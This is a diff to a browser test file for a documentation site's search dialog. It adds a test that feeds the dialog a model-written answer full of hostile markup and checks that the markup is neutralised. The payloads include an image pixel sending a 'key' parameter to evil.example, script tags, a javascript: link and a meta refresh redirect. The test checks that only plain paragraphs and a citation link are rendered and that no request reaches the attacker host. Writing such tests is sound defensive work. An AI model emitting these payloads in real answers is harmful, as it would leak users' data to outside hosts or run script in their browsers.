@@ -280,6 +280,8 @@ describe('an answer that a model writes', () => {
     const headers = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' };
     const page = await site.share('docs/guides/first');
     const asked: unknown[] = [];
+    const requests: string[] = [];
+    page.on('request', (request) => requests.push(request.url()));
     await page.route(writer, (route) => {
       const sent = route.request().postData();
       if (sent !== null) asked.push(JSON.parse(sent));
@@ -291,7 +293,7 @@ describe('an answer that a model writes', () => {
     await page.keyboard.press('Control+k');
     await dialog.getByRole('combobox').fill('keep the key on the server');
     await dialog.getByRole('combobox').press('Shift+Enter');
-    return { page, asked, region: dialog.getByRole('region', { name: 'Quoted from these docs' }) };
+    return { page, asked, requests, region: dialog.getByRole('region', { name: 'Quoted from these docs' }) };
   }
 
   it('stands above the passages, says who wrote it, and leads to those that it names', async () => {
@@ -313,6 +315,23 @@ describe('an answer that a model writes', () => {
     expect(asked).toEqual([{ question: 'keep the key on the server', locale: 'en', sections: [source] }]);
     await link.first().click();
     await page.waitForURL((url) => url.pathname + url.hash === source);
+  });
+  it('follows and loads nothing that it names', async () => {
+    const hostile = [
+      '![pixel](https://evil.example/?q=key) <img src=https://evil.example/x><script src=//evil.example></script>',
+      '[1](https://evil.example) [here](javascript:alert(1)) https://evil.example <a href=//evil.example>x</a>',
+      `${'x'.repeat(9000)} [9] <meta http-equiv=refresh content="0;url=//evil.example"> [1]`,
+    ];
+    const { requests, region } = await answer(event({ text: hostile.join('\n\n') }) + event({}, 'done'));
+    await region.getByText('Written by a model').waitFor();
+    const written = await region.locator('.search-written').evaluate((box) => ({
+      elements: [...new Set(Array.from(box.querySelectorAll('*'), ({ localName }) => localName))],
+      links: Array.from(box.querySelectorAll('a'), ({ text }) => text),
+      isWithin: box.scrollWidth <= box.clientWidth,
+    }));
+    expect(written).toEqual({ elements: ['p', 'a'], links: ['[1]'], isWithin: true });
+    expect(requests).toContain(writer);
+    expect(requests.filter((url) => url.includes('evil'))).toEqual([]);
   });
   it('that failed may be tried again', async () => {
     const { page, region } = await answer(event({ message: 'no credit' }, 'error'));
